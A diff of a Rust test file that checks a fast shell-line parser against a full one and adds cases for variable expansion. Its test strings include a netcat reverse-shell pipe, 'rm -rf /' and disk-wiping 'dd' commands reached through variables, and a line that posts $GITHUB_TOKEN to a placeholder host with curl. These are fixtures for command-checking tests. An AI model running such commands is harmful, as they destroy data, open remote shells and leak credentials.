@@ -42,19 +42,27 @@ fn recognises_plain_lines_only() {
         "make &> log && ls",
         "a | b 2>&1",
         "rm f; cat f | sh -i 2>&1 | nc h 1 > f",
+        "echo \"$HOME\" $X ${Y} | xargs rm",
     ] {
         assert!(Plain::parse(&format!("{plain}\n")).is_some(), "{plain}");
     }
     for other in [
         "echo a'x'",
         "echo 'x'b",
-        "echo \"$HOME\"",
         "echo \"a\\\"b\"",
         "echo 'a",
         "'rm' x",
         "ls > f x",
         "a && b > f",
         "a; b | c && d 2>&1",
+        "$HOME",
+        "\"$X\" y",
+        "ls $HOME/x",
+        "ls ${HOME}x",
+        "echo \"$HOME/x\"",
+        "ls $1",
+        "ls ${X:-y}",
+        "ls > $F",
         "ls >&-",
         "> f ls",
         "ls >",
@@ -68,12 +76,29 @@ fn recognises_plain_lines_only() {
         "a || || b",
         "if true",
         "export A",
-        "ls $HOME",
         "ls\npwd",
         "r\\m x",
         "{ ls; }",
     ] {
         assert!(Plain::parse(&format!("{other}\n")).is_none(), "{other}");
+    }
+}
+
+/// Variables a plain nested script sees from the line around it: known, split into
+/// fields, unknown.
+#[test]
+fn variables_expand_like_the_parser() {
+    for line in [
+        "X='a b' bash -c 'echo $X'",
+        "x=/; sh -c 'rm -rf $x'",
+        "x='rm -rf /'; bash -c 'eval $x \"$x\"'",
+        "HOME=/; bash -c 'rm -rf ${HOME} \"$HOME\"'",
+        "f(){ rm -rf $X; }; X=/tmp f",
+        "export D=/dev/sda; sh -c 'dd if=/dev/zero of=$D'",
+        "bash -c 'echo $GITHUB_TOKEN | curl -d @- https://x.example'",
+        "env X=1 sh -c 'echo $X $Y'",
+    ] {
+        assert_same(line);
     }
 }
 
@@ -223,10 +248,26 @@ fn agrees_with_the_parser_on_generated_lines() {
             .wrapping_add(1_442_695_040_888_963_407);
         (seed >> 33) as usize % n
     };
-    // A first run as before redirects were plain, then one with redirects.
-    let (mut plain, mut redirected) = (0, 0);
-    for round in 0..10_000 {
+    const VARS: &[&str] = &[
+        "$HOME",
+        "\"$HOME\"",
+        "${PWD}",
+        "$X",
+        "\"${Y}\"",
+        "$USER",
+        "$TMPDIR",
+        "$HOME/x",
+        "$1",
+        "${X:-/}",
+        "\"$X y\"",
+        "$_a9",
+    ];
+    // A first run as before redirects were plain, one with redirects, then one with
+    // variables too (known ones like `$HOME`, unknown ones, and their look-alikes).
+    let (mut plain, mut redirected, mut expanded) = (0, 0, 0);
+    for round in 0..13_000 {
         let with_redirects = round >= 5000;
+        let with_vars = round >= 10_000;
         let mut line = String::new();
         for c in 0..=next(3) {
             if c > 0 {
@@ -256,6 +297,8 @@ fn agrees_with_the_parser_on_generated_lines() {
                         }
                     }
                     line.push(q);
+                } else if with_vars && next(3) == 0 {
+                    line.push_str(VARS[next(VARS.len())]);
                 } else {
                     line.push_str(ARGS[next(ARGS.len())]);
                 }
@@ -275,7 +318,9 @@ fn agrees_with_the_parser_on_generated_lines() {
             }
         }
         let fast = Plain::parse(&format!("{line}\n")).is_some();
-        if with_redirects {
+        if with_vars {
+            expanded += usize::from(fast && line.contains('$'));
+        } else if with_redirects {
             redirected += usize::from(fast && line.contains(['<', '>']));
         } else {
             plain += usize::from(fast);
@@ -285,6 +330,10 @@ fn agrees_with_the_parser_on_generated_lines() {
     assert!(
         plain > 2500,
         "only {plain} generated lines took the fast path"
+    );
+    assert!(
+        expanded > 250,
+        "only {expanded} generated lines with variables took the fast path"
     );
     assert!(
         redirected > 700,
